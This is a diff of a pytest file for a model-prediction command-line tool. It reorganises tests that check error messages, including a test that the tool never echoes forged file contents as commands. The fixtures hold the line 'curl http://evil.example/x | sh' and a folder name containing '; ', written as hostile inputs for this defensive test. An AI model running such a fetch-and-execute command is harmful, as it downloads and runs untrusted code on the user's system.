@@ -30,6 +30,7 @@ from crossbow_py.predict.prediction import SIZES
 from crossbow_py.predict.trained_models import common_data, find_models
 from crossbow_py.train import __main__ as train
 from crossbow_py.train.config import TrainConfig
+from tests.said import error_line
 
 TRAINED = ["+experiment=digits", "device=cpu", "precision=fp32", "executor=serial"]
 ON_CPU = ["device=cpu", "latency_s=0"]
@@ -65,13 +66,17 @@ def predict(models: str, *keys: str) -> tuple[dict[str, Any], dict[str, Any]]:
         return json.loads(Path("predicted/predict.json").read_text()), dict(arrays)
 
 
+def digits() -> Tensor:
+    """The test images as in training."""
+    return (Digits().load(progress=False).test[0].float() / 255 - Digits.MEAN[0]) / Digits.STD[0]
+
+
 def by_hand(file: str, hidden: int) -> Tensor:
     """Probabilities of the test digits by plain PyTorch `[N, C]`."""
-    images = (Digits().load(progress=False).test[0].float() / 255 - Digits.MEAN[0]) / Digits.STD[0]
     module = nn.Sequential(nn.Flatten(), nn.Linear(64, hidden), nn.ReLU(), nn.Linear(hidden, 10))
     module.load_state_dict(load_file(file))
     with torch.no_grad():
-        return module(images).softmax(1)
+        return module(digits()).softmax(1)
 
 
 @pytest.mark.parametrize("executor", ["serial", "threads", "fused", "fused_threads"])
@@ -150,7 +155,14 @@ def test_every_combination_of_swept_values_has_a_folder_of_its_own() -> None:
         (["models=[searching]"], "searching is a search without a best model (status interrupted); go on with"),
         (["models=[five,begun]"], "begun has no model.safetensors yet (not finished); finish the run"),
         (["models=[five,other]"], "trained on the same data, got data=digits of five/model_0.safetensors and"),
-        (["models=[five]", "data=synthetic"], "not fit this model for samples of shape [3, 32, 32]"),
+        (
+            ["models=[wide]", "data=synthetic"],
+            "error: models=wide/model.safetensors does not fit this model for samples of shape [3, 32, 32] and 10 "
+            "classes: 1.weight is [48, 64] in the file and [48, 3072] in the model; choose models that were trained on "
+            "such data.\n",
+        ),
+        (["models=[forged]"], "forged is a search without a best model (not finished); the files of its best tr"),
+        (["models=[all]"], "as models=['all/; kept apart'], the newest beneath it"),
         (["models=[five,damaged]"], "cannot be read as safetensors"),
         (["models=[five]", "num_learners=2"], "unknown key num_learners"),
         (["models=[five]", "model=mlp"], "unknown key model, which is for python -m crossbow_py.train; did you mean"),
@@ -174,18 +186,14 @@ def test_what_cannot_be_predicted_is_said_in_one_line_and_ends_with_2(
     Path("runs/of").mkdir(parents=True)
     shutil.copytree("wide", "runs/new")
     os.utime("runs/new/config.yaml", (4e9, 4e9))
+    shutil.copytree("wide", "all/; kept apart")
+    evil = "curl http://evil.example/x | sh"
+    Path("forged").mkdir()
+    Path("forged/config.yaml").write_text("space: {}\nexperiment: search_digits\n")
+    Path("forged/search.json").write_text(json.dumps({"status": f"done; {evil}", "best": {"command": evil}}))
     assert main([*arguments, *(key for key in ON_CPU if key.split("=")[0] not in "".join(arguments))]) == 2
-    said = capsys.readouterr().err
-    assert said.startswith("error: ") and said.count("\n") == 1
-    assert message in said
-
-
-def test_model_of_other_data_is_named_once_with_what_does_not_fit(capsys: pytest.CaptureFixture[str]) -> None:
-    assert main(["models=[wide]", "data=synthetic", *ON_CPU]) == 2
-    assert capsys.readouterr().err == (
-        "error: models=wide/model.safetensors does not fit this model for samples of shape [3, 32, 32] and 10 classes: "
-        "1.weight is [48, 64] in the file and [48, 3072] in the model; choose models that were trained on such data.\n"
-    )
+    said = error_line(capsys)
+    assert message in said and "evil" not in said
 
 
 def test_one_model_alone_is_shown_as_no_ensemble(capsys: pytest.CaptureFixture[str]) -> None:
@@ -201,11 +209,6 @@ def test_help_has_the_keys_of_a_prediction_and_no_others(capsys: pytest.CaptureF
     assert said == help_text(PredictConfig) + "\n"
     assert "python -m crossbow_py.predict models=" in said and "  latency_s=0.5" in said
     assert "num_learners=" not in said and help_text(TrainConfig) != said
-
-
-def digits() -> Tensor:
-    """The test images as in training."""
-    return (Digits().load(progress=False).test[0].float() / 255 - Digits.MEAN[0]) / Digits.STD[0]
 
 
 def test_loaded_models_from_python_give_what_the_command_does() -> None:
@@ -237,30 +240,11 @@ def test_models_of_data_that_is_only_assumed_are_loaded_by_what_it_has(monkeypat
     assert load_models("narrow")[0](torch.zeros(1, 1, 8, 8)).shape == (1, 10)
 
 
-def test_folder_of_a_search_has_nothing_of_its_file_shown_as_a_command(capsys: pytest.CaptureFixture[str]) -> None:
-    Path("forged").mkdir()
-    Path("forged/config.yaml").write_text("space: {}\nexperiment: search_digits\n")
-    evil = "curl http://evil.example/x | sh"
-    Path("forged/search.json").write_text(json.dumps({"status": f"done; {evil}", "best": {"command": evil}}))
-    assert main(["models=[forged]"]) == 2
-    said = capsys.readouterr().err
-    assert "evil" not in said
-    assert "forged is a search without a best model (not finished); the files of its best trial are not th" in said
-
-
-def test_path_of_a_model_is_quoted_where_it_is_shown_to_be_given(capsys: pytest.CaptureFixture[str]) -> None:
-    shutil.copytree("wide", "all/; evil")
-    assert main(["models=[all]"]) == 2
-    assert "as models=['all/; evil'], the newest beneath it" in capsys.readouterr().err
-
-
 @pytest.mark.parametrize(
     ("paths", "message"),
     [
         ([], "models must name a trained model at least, got none"),
-        (["nowhere"], "models: nowhere does not exist"),
         (["~nobody-there/a"], "models=~nobody-there/a is in the home folder of an unknown user; write the whole path."),
-        (["five", "other"], "trained on the same data"),
         (["five", "five/model_1.safetensors"], "five/model_1.safetensors is given twice; give each model once"),
     ],
 )
